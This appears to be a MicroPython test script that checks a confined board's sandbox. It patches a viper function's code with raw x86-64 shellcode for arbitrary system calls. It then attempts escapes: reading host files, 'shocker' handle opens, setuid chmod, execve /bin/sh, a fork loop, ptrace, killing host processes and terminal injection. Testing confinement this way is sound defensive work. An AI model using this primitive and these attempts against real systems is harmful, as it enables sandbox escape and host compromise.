# MicroPython (the virtual board's unix port, x86-64): machine code's ways out of the board.
# bench/board_escape.py puts `FACTS = {...}` (the host's targets) before this text and runs it on
# a confined board, from the REPL or as a deployed .mpy. A viper function's code is rewritten
# through uctypes (the unix port keeps it in writable and executable memory) into a stub that
# makes any system call, and each way out is tried with it; the last line printed is the JSON of
# {attempt: result}, a negative result being -errno (the attempt failed).
import json
import struct

import micropython
import uctypes


@micropython.viper
def _victim(a: int) -> int:  # room for the stub (the code the viper emitter made for this is longer)
    return a + 1 + a * 3 + (a << 2) + (a >> 1) + a * 5 + a * 7 + a * 11 + a * 13 + a * 17 + a * 19


_BUF = bytearray(64)  # nr, six arguments, then the result (in: 1 when a new process must exit)
_ADDR = uctypes.addressof(_BUF)
_STUB = (
    b"\x49\xbb" + struct.pack("<Q", _ADDR)  # movabs r11, BUF
    + b"\x49\x8b\x03\x49\x8b\x7b\x08\x49\x8b\x73\x10\x49\x8b\x53\x18"  # rax, rdi, rsi, rdx from BUF
    + b"\x4d\x8b\x53\x20\x4d\x8b\x43\x28\x4d\x8b\x4b\x30"  # r10, r8, r9
    + b"\x0f\x05"  # syscall
    + b"\x49\xbb" + struct.pack("<Q", _ADDR)  # movabs r11, BUF (syscall clobbers r11)
    + b"\x48\x85\xc0\x75\x12"  # test rax, rax; jnz store
    + b"\x49\x83\x7b\x38\x00\x74\x0b"  # cmp qword [r11+56], 0; je store
    + b"\xb8\xe7\x00\x00\x00\x31\xff\x0f\x05\x0f\x0b"  # a new process made: exit_group(0) in it
    + b"\x49\x89\x43\x38"  # store: mov [r11+56], rax
    + b"\xb8\x01\x00\x00\x00\xc3"  # return the small int 0
)
_start = uctypes.struct(id(_victim), {"w": (uctypes.ARRAY | 0, uctypes.UINT64 | 4)}).w[3]  # mp_obj_fun_bc_t.bytecode: the code
uctypes.bytearray_at(_start, len(_STUB))[:] = _STUB


def syscall(nr, *args, forks=False):
    a = list(args) + [0] * (6 - len(args))
    struct.pack_into("<8q", _BUF, 0, nr, a[0], a[1], a[2], a[3], a[4], a[5], 1 if forks else 0)
    _victim(0)
    return struct.unpack_from("<q", _BUF, 56)[0]


def c(text):  # a C string the stub can hand the kernel (kept alive in KEEP)
    return ptr(bytearray(text.encode() if isinstance(text, str) else text) + b"\0")


def ptr(data):  # the address of data, kept alive in KEEP (the kernel may write there)
    KEEP.append(data)
    return uctypes.addressof(data)


KEEP = []
R = {}
O_RDONLY, O_WRONLY, O_CREAT, O_DIRECTORY = 0, 1, 0o100, 0o200000
AT_FDCWD = -100


def opened_and_read(path):
    fd = syscall(2, c(path), O_RDONLY)
    if fd < 0:
        return fd
    n = syscall(0, fd, ptr(bytearray(64)), 64)
    syscall(3, fd)
    return n if n >= 0 else fd  # bytes read: the file's content reached the board


def created(path, dirfd=None):
    fd = syscall(257, AT_FDCWD if dirfd is None else dirfd, c(path), O_WRONLY | O_CREAT, 0o644)
    if fd >= 0:
        syscall(1, fd, c("written by the board"), 20)
        syscall(3, fd)
    return fd


def sockaddr_un(path):
    return struct.pack("<H", 1) + path + b"\0" * (108 - len(path))


def connected(family, kind, address):
    fd = syscall(41, family, kind, 0)
    if fd < 0:
        return fd
    r = syscall(42, fd, ptr(address), len(address))
    syscall(3, fd)
    return r


OUT, SECRET, TARGET, PID = FACTS["out"], FACTS["secret"], FACTS["target"], FACTS["pid"]  # noqa: F821 (set by the host)
# controls: the stub runs, and allowed calls work (the attempts below are not failing for nothing)
R["control: getpid"] = syscall(39)
if not FACTS["flash"]:
    R["control: create a file in the folder"] = created("inside.txt")
# files outside the folder
R["read the secret by its host path"] = opened_and_read(SECRET)
R["read /etc/passwd"] = opened_and_read("/etc/passwd")
R["read ../outside/secret.txt"] = opened_and_read("../outside/secret.txt")
R["list /etc"] = syscall(2, c("/etc"), O_RDONLY | O_DIRECTORY)
R["list the folder's parent by its host path"] = syscall(2, c(OUT.rsplit("/", 1)[0]), O_RDONLY | O_DIRECTORY)
R["create a file outside by its host path"] = created(OUT + "/written-by-board")
R["create ../outside/x"] = created("../outside/written-by-board-2")
R["mkdir outside"] = syscall(83, c(OUT + "/dir-by-board"), 0o755)
R["unlink the secret"] = syscall(87, c(SECRET))
R["rename the secret"] = syscall(82, c(SECRET), c(OUT + "/renamed"))
R["chmod a host file 4777"] = syscall(90, c(TARGET), 0o4777)
R["fchmodat a host file 4777"] = syscall(268, AT_FDCWD, c(TARGET), 0o4777, 0)
R["chown a host file"] = syscall(92, c(TARGET), 65534, 65534)
HANDLE = bytes.fromhex(FACTS["handle"])  # struct file_handle of the secret, made on the host
R["open_by_handle_at (shocker)"] = syscall(304, AT_FDCWD, ptr(HANDLE), O_RDONLY)
R["name_to_handle_at"] = syscall(303, AT_FDCWD, c(SECRET), ptr(bytearray(136)), ptr(bytearray(4)), 0)
R["hard link to the secret"] = syscall(86, c(SECRET), c("secret-link"))
R["symlink out of the folder"] = syscall(88, c(OUT), c("out-link"))
R["mknod /dev/mem"] = syscall(133, c("mem"), 0o20666, (1 << 8) | 1)
R["mount a tmpfs"] = syscall(165, c("none"), c("."), c("tmpfs"), 0, 0)
R["chroot"] = syscall(161, c("."))
R["unshare a user namespace"] = syscall(272, 0x10000000)
R["setns"] = syscall(308, 0, 0)
R["pivot_root"] = syscall(155, c("."), c("."))
# files beyond the flash / file size limit
fd = syscall(257, AT_FDCWD, c("big"), O_WRONLY | O_CREAT, 0o644)
R["a file beyond the size limit"] = syscall(77, fd, FACTS["limit"] + 1) if fd >= 0 else fd  # ftruncate
if fd >= 0:
    syscall(3, fd)
    syscall(87, c("big"))
if FACTS["flash"]:
    R["create a file beside the flash image"] = fd
    try:
        open("/flash.img", "r+b").close()
        R["open /flash.img from MicroPython"] = 0
    except OSError as e:
        R["open /flash.img from MicroPython"] = -e.errno
# sockets
R["unix socket"] = syscall(41, 1, 1, 0)
R["connect the host's unix socket"] = connected(1, 1, sockaddr_un(FACTS["socket"].encode()))
R["connect the host's abstract unix socket"] = connected(1, 1, struct.pack("<H", 1) + b"\0" + FACTS["abstract"].encode())
R["connect TCP to the host"] = connected(2, 1, struct.pack("<HH4s8s", 2, ((FACTS["tcp"] & 0xFF) << 8) | (FACTS["tcp"] >> 8), bytes([127, 0, 0, 1]), bytes(8)))
R["udp socket"] = syscall(41, 2, 2, 0)
# other processes
R["kill a host process"] = syscall(62, PID, 9)
R["tgkill a host process"] = syscall(234, PID, PID, 9)
R["kill -1 (every process), signal 0"] = syscall(62, -1, 0)
R["kill pid 1, signal 0"] = syscall(62, 1, 0)
R["ptrace attach a host process"] = syscall(101, 16, PID, 0, 0)
remote = struct.pack("<QQ", 0x400000, 8)
R["process_vm_readv a host process"] = syscall(310, PID, ptr(struct.pack("<QQ", ptr(bytearray(8)), 8)), 1, ptr(remote), 1, 0)
R["pidfd_open a host process"] = syscall(434, PID, 0)
R["type into the terminal (TIOCSTI)"] = syscall(16, 0, 0x5412, ptr(b"x"))
# new processes and programs
forks = [syscall(57, forks=True) for _ in range(20)]
R["fork loop (20 forks)"] = max(forks)
R["clone a process"] = syscall(56, 17, 0, 0, 0, 0, forks=True)
R["vfork"] = syscall(58, forks=True)
R["clone3"] = syscall(435, ptr(bytearray(88)), 88, forks=True)
R["raise the process limit"] = syscall(302, 0, 6, ptr(struct.pack("<qq", -1, -1)), 0)  # prlimit64 RLIMIT_NPROC
R["execve /bin/sh"] = syscall(59, c("/bin/sh"), ptr(struct.pack("<QQ", c("sh"), 0)), 0)
# kernel interfaces a sandbox must not reach
R["io_uring_setup"] = syscall(425, 8, ptr(bytearray(120)))
R["bpf"] = syscall(321, 0, ptr(bytearray(128)), 128)
R["userfaultfd"] = syscall(323, 0)
R["keyctl"] = syscall(250, 0, -3, 0)
R["perf_event_open"] = syscall(298, ptr(bytearray(128)), 0, -1, -1, 0)
print("ATTACK " + json.dumps(R))
